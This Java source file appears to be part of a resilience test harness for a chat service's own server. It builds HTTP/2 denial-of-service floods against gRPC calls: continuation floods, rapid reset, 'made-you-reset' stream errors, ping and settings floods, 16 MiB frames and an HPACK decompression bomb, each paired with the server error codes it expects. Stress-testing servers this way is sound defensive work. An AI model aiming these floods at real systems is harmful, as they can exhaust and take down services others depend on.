package chat.tools.attack;

import static chat.tools.raw.ErrorCode.COMPRESSION_ERROR;
import static chat.tools.raw.ErrorCode.ENHANCE_YOUR_CALM;
import static chat.tools.raw.ErrorCode.FLOW_CONTROL_ERROR;
import static chat.tools.raw.ErrorCode.FRAME_SIZE_ERROR;
import static chat.tools.raw.ErrorCode.PROTOCOL_ERROR;
import static chat.tools.raw.ErrorCode.STREAM_CLOSED;

import chat.tools.raw.ErrorCode;
import chat.tools.raw.FrameType;
import chat.tools.raw.Frames;
import chat.tools.raw.HeaderBlock;
import java.util.ArrayList;
import java.util.List;
import java.util.function.IntFunction;
import java.util.function.Supplier;

/** The floods of frames. */
final class Floods {
  private static final String LONG_CALL = "/chat.SessionService/Connect";
  private static final String SHORT_CALL = "/chat.ChatService/ListRooms";

  private static final int UNKNOWN_TYPE = 0xbe;
  private static final int FRAME_BYTES = 16_384;
  private static final int LARGE_VALUE = 4_000;
  private static final int REFERENCES = 12_000;

  private Floods() {}

  static List<Attack> all() {
    List<Attack> all = new ArrayList<>();
    all.add(
        FrameFlood.counted(
            "continuation-full",
            continuations(filling()),
            PROTOCOL_ERROR,
            ENHANCE_YOUR_CALM,
            COMPRESSION_ERROR));
    all.add(
        FrameFlood.counted(
            "continuation-empty", continuations(new byte[0]), ENHANCE_YOUR_CALM, PROTOCOL_ERROR));
    all.add(
        FrameFlood.counted(
            "continuation-tiny",
            continuations(new HeaderBlock().add("x", "y").bytes()),
            ENHANCE_YOUR_CALM,
            PROTOCOL_ERROR));
    both(all, "rapid-reset", perStream(2, Floods::begunAndCancelled), ENHANCE_YOUR_CALM);
    madeYouReset(
        all, 2, "window-overflow", s -> spoilt(s, Frames.windowUpdate(s, Integer.MAX_VALUE)));
    madeYouReset(all, 2, "zero-window", s -> spoilt(s, Frames.windowUpdate(s, 0)));
    madeYouReset(all, 2, "depends-on-itself", s -> spoilt(s, Frames.priority(s, s)));
    madeYouReset(all, 2, "data-after-end", Floods::dataAfterEnd);
    madeYouReset(all, 1, "malformed-headers", Floods::malformed);
    both(all, "ping-flood", repeated(Frames.ping(7)), ENHANCE_YOUR_CALM);
    both(all, "settings-flood", repeated(Frames.settings(4, 65_535)), ENHANCE_YOUR_CALM);
    both(all, "window-update-flood", repeated(Frames.windowUpdate(0, 1)), ENHANCE_YOUR_CALM);
    both(
        all,
        "priority-flood",
        perStream(1, stream -> Frames.priority(stream, 0)),
        ENHANCE_YOUR_CALM);
    both(all, "empty-data-flood", onOneCall(Frames.data(1)), ENHANCE_YOUR_CALM);
    both(
        all,
        "unknown-frame-flood",
        repeated(Frames.frame(UNKNOWN_TYPE, 0, 0, (byte) 1)),
        ENHANCE_YOUR_CALM);
    all.add(FrameFlood.counted("frames-16mib", largeFrames(), FRAME_SIZE_ERROR).on(64));
    all.add(
        FrameFlood.timed(
            "hpack-bomb",
            perStream(1, stream -> Frames.lastHeaders(stream, bomb())),
            ENHANCE_YOUR_CALM,
            PROTOCOL_ERROR,
            COMPRESSION_ERROR));
    return all;
  }

  /** By somebody who reads the answers, and by somebody who does not. */
  private static void both(
      List<Attack> all, String name, Supplier<Script> script, ErrorCode... codes) {
    FrameFlood flood = FrameFlood.timed(name, script, codes);
    all.add(flood);
    all.add(flood.notReading());
  }

  private static void madeYouReset(
      List<Attack> all, int frames, String how, IntFunction<byte[]> perStream) {
    both(
        all,
        "made-you-reset-" + how,
        perStream(frames, perStream),
        ENHANCE_YOUR_CALM,
        PROTOCOL_ERROR,
        FLOW_CONTROL_ERROR,
        STREAM_CLOSED);
  }

  /** A header block that never ends. */
  private static Supplier<Script> continuations(byte[] piece) {
    byte[] head = Frames.frame(FrameType.HEADERS, 0, 1, HeaderBlock.call(LONG_CALL).bytes());
    byte[] more = Frames.frame(FrameType.CONTINUATION, 0, 1, piece);
    return () -> new Script(Frames.join(Frames.greeting(), head), i -> more, 1);
  }

  private static byte[] filling() {
    HeaderBlock block = new HeaderBlock();
    while (block.bytes().length + LARGE_VALUE < FRAME_BYTES) {
      block.add("x-filling", "y".repeat(LARGE_VALUE / 2));
    }
    return block.bytes();
  }

  private static Supplier<Script> repeated(byte[] frame) {
    return () -> new Script(Frames.greeting(), i -> frame, 1);
  }

  private static Supplier<Script> onOneCall(byte[] frame) {
    byte[] call = Frames.headers(1, HeaderBlock.call(LONG_CALL));
    return () -> new Script(Frames.join(Frames.greeting(), call), i -> frame, 1);
  }

  private static Supplier<Script> perStream(int frames, IntFunction<byte[]> unit) {
    return () -> new Script(Frames.greeting(), i -> unit.apply(2 * i + 1), frames);
  }

  private static byte[] begunAndCancelled(int stream) {
    return spoilt(stream, Frames.reset(stream, ErrorCode.CANCEL));
  }

  private static byte[] spoilt(int stream, byte[] frame) {
    return Frames.join(Frames.headers(stream, HeaderBlock.call(LONG_CALL)), frame);
  }

  private static byte[] dataAfterEnd(int stream) {
    return Frames.join(
        Frames.lastHeaders(stream, HeaderBlock.call(SHORT_CALL)), Frames.data(stream, (byte) 0));
  }

  private static byte[] malformed(int stream) {
    return Frames.headers(stream, HeaderBlock.call(LONG_CALL).add("Connection", "close"));
  }

  private static Supplier<Script> largeFrames() {
    byte[] piece = new byte[FRAME_BYTES];
    byte[] head = Frames.frameOfLength(Frames.LARGEST_LENGTH, FrameType.DATA, 0, 1, piece);
    byte[] call = Frames.headers(1, HeaderBlock.call(LONG_CALL));
    return () ->
        new Script(Frames.join(Frames.greeting(), call), i -> i % 1024 == 0 ? head : piece, 1);
  }

  /** Some kilobytes that unpack to many megabytes. */
  private static HeaderBlock bomb() {
    HeaderBlock block = HeaderBlock.call(SHORT_CALL).remember("x", "y".repeat(LARGE_VALUE));
    for (int i = 0; i < REFERENCES; i++) {
      block.indexed(HeaderBlock.FIRST_DYNAMIC);
    }
    return block;
  }
}
